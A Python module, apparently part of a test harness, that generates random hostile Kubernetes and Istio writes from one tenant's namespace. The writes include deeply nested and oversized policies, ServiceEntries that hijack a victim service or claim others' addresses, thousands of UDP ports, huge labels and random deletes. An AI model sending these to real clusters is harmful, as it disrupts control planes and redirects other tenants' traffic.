# SPDX-License-Identifier: Apache-2.0
"""Objects that a tenant writes into its own namespace to harm others.

Every object is one that an API server accepts, and that namespaced RBAC permits. Names repeat, so
that later writes replace earlier ones.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from typing import NamedTuple

_NETWORKING = "/apis/networking.istio.io/v1"
_SECURITY = "/apis/security.istio.io/v1"
DEPTH = 1200  # of nested arrays: beyond Python's recursion limit
NAMES = 6  # objects of each kind


class Write(NamedTuple):
    """A change of one object of `collection`, a URL path. Its `body` is JSON text.

    POST replaces an object of the same name. The body of DELETE is empty.
    """

    attack: str
    method: str
    collection: str
    name: str
    body: str = ""


class ObjectAttacker:
    """Makes random writes to `namespace`. `victim`: a service that its names should hijack."""

    def __init__(
        self, seed: int, namespace: str, victim: str, pod: str, claimed: list[str]
    ) -> None:
        """`pod`: of the tenant, to be labelled. `claimed`: addresses that belong to others."""
        self._random = random.Random(seed)
        self._namespace = namespace
        self._victim = victim
        self._pod = pod
        self._claimed = claimed
        self._attacks: list[Callable[[], Write]] = [
            self.nested_policy,
            self.large_policy,
            self.many_rules,
            self.wide_service_entry,
            self.hijacking_service_entry,
            self.claiming_service_entry,
            self.many_udp_ports,
            self.many_labels,
            self.many_annotations,
            self.delete_something,
        ]

    def next(self) -> Write:
        """The next write."""
        return self._random.choice(self._attacks)()

    def nested_policy(self) -> Write:
        deep = "[" * DEPTH + "]" * DEPTH
        return self._policy("nested_policy", f'{{"action":"ALLOW","rules":[{{}}],"x":{deep}}}')

    def large_policy(self) -> Write:
        names = [f"n{number}" for number in range(40_000)]
        rules = [{"from": [{"source": {"namespaces": names}}]}]
        return self._policy("large_policy", json.dumps({"rules": rules}))

    def many_rules(self) -> Write:
        rules = [
            {"from": [{"source": {"ipBlocks": [f"10.{number % 250}.{number // 250}.0/24"]}}]}
            for number in range(500)
        ]
        return self._policy("many_rules", json.dumps({"action": "DENY", "rules": rules}))

    def wide_service_entry(self) -> Write:
        spec = {
            "hosts": [f"h{number}.evil.example" for number in range(256)],
            "ports": [{"number": 80, "name": "http", "protocol": "HTTP"}],
            "resolution": "STATIC",
            "endpoints": [
                {"address": f"198.18.{number // 250}.{number % 250}"} for number in range(2000)
            ],
        }
        return self._entry("wide_service_entry", spec)

    def hijacking_service_entry(self) -> Write:
        name = self._victim.split(".")[0]
        hosts = [self._victim, name, f"{name}.mesh", f"*.{self._victim.partition('.')[2]}"]
        spec = {
            "hosts": [self._random.choice(hosts)],
            "addresses": [self._random.choice(self._claimed)],
            "ports": [{"number": 8000, "name": "http", "protocol": "HTTP"}],
            "resolution": "STATIC",
            "endpoints": [{"address": "198.18.9.9"}],
        }
        return self._entry("hijacking_service_entry", spec)

    def claiming_service_entry(self) -> Write:
        spec = {
            "hosts": ["claims.evil.example"],
            "addresses": self._claimed,
            "ports": [{"number": 8000, "name": "tcp", "protocol": "TCP"}],
            "resolution": "NONE",
        }
        return self._entry("claiming_service_entry", spec)

    def many_udp_ports(self) -> Write:
        ports = [
            {"name": f"p{number}", "port": 1000 + number, "protocol": "UDP"}
            for number in range(2500)
        ]
        name = self._name()
        body = {
            "apiVersion": "v1",
            "kind": "Service",
            "metadata": {"name": name, "namespace": self._namespace},
            "spec": {"selector": {"app": "backend"}, "ports": ports},
        }
        path = f"/api/v1/namespaces/{self._namespace}/services"
        return Write("many_udp_ports", "POST", path, name, json.dumps(body))

    def many_labels(self) -> Write:
        count = self._random.choice([10, 5000])
        return self._patch("many_labels", {"labels": {f"l-{n}": "x" * 40 for n in range(count)}})

    def many_annotations(self) -> Write:
        length = self._random.choice([10, 200_000])
        return self._patch("many_annotations", {"annotations": {"note": "x" * length}})

    def delete_something(self) -> Write:
        kind = self._random.choice(
            [
                f"{_SECURITY}/namespaces/{self._namespace}/authorizationpolicies",
                f"{_NETWORKING}/namespaces/{self._namespace}/serviceentries",
                f"/api/v1/namespaces/{self._namespace}/services",
            ]
        )
        return Write("delete_something", "DELETE", kind, self._name())

    def _name(self) -> str:
        return f"evil-{self._random.randrange(NAMES)}"

    def _policy(self, attack: str, spec: str) -> Write:
        head = '{"apiVersion":"security.istio.io/v1","kind":"AuthorizationPolicy","metadata":'
        name = self._name()
        metadata = json.dumps({"name": name, "namespace": self._namespace})
        path = f"{_SECURITY}/namespaces/{self._namespace}/authorizationpolicies"
        return Write(attack, "POST", path, name, f'{head}{metadata},"spec":{spec}}}')

    def _entry(self, attack: str, spec: object) -> Write:
        name = self._name()
        body = {
            "apiVersion": "networking.istio.io/v1",
            "kind": "ServiceEntry",
            "metadata": {"name": name, "namespace": self._namespace},
            "spec": spec,
        }
        path = f"{_NETWORKING}/namespaces/{self._namespace}/serviceentries"
        return Write(attack, "POST", path, name, json.dumps(body))

    def _patch(self, attack: str, metadata: object) -> Write:
        path = f"/api/v1/namespaces/{self._namespace}/pods"
        return Write(attack, "PATCH", path, self._pod, json.dumps({"metadata": metadata}))
